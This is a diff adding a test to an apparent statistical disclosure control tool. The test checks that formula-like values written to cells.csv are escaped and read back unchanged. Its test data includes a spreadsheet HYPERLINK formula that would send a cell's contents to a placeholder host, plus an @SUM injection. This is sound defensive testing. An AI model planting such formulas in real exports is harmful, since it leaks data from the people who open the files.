@@ -169,3 +169,24 @@ def test_without_an_area_the_source_is_declared(tmp_path: Path) -> None:
     assert not sub["source_verified_at_submission"]
     assert "--area AREA --source DATASET:count" in sub["submit"]
     assert not (out / "tables" / "output_0" / "source.json").exists()
+
+
+def test_a_table_folders_cells_csv_runs_no_formula(tmp_path: Path) -> None:
+    """The folder ``release submit`` takes holds cells.csv, which the output checker opens:
+    a code from the researcher's data must not run there, and must come back exactly."""
+    import csv
+
+    from fivesafes.sdc.formats.injection import TRIGGERS, is_number_text
+
+    hyperlink = '=HYPERLINK("http://x/?"&C2,"click")'
+    codes = [hyperlink, "@SUM(A1)", "'=quoted", "-1"]
+    df = pd.DataFrame({"a": codes * 10, "b": ["p", "q"] * 20})
+    s = Session(suppress=True)
+    s.crosstab(df.a, df.b, margins=True)
+    folder = s.finalise(str(tmp_path / "out")) / "tables" / "output_0"
+    with (folder / "cells.csv").open(newline="", encoding="utf-8") as fh:
+        found = [f for row in csv.reader(fh) for f in row]
+    assert not [f for f in found if f.startswith(TRIGGERS) and not is_number_text(f)]
+    assert "'" + hyperlink in found and "''=quoted" in found
+    table = read_table_dir(folder)  # what `release submit FOLDER` reads
+    assert set(codes) <= set(table.cells["a"])
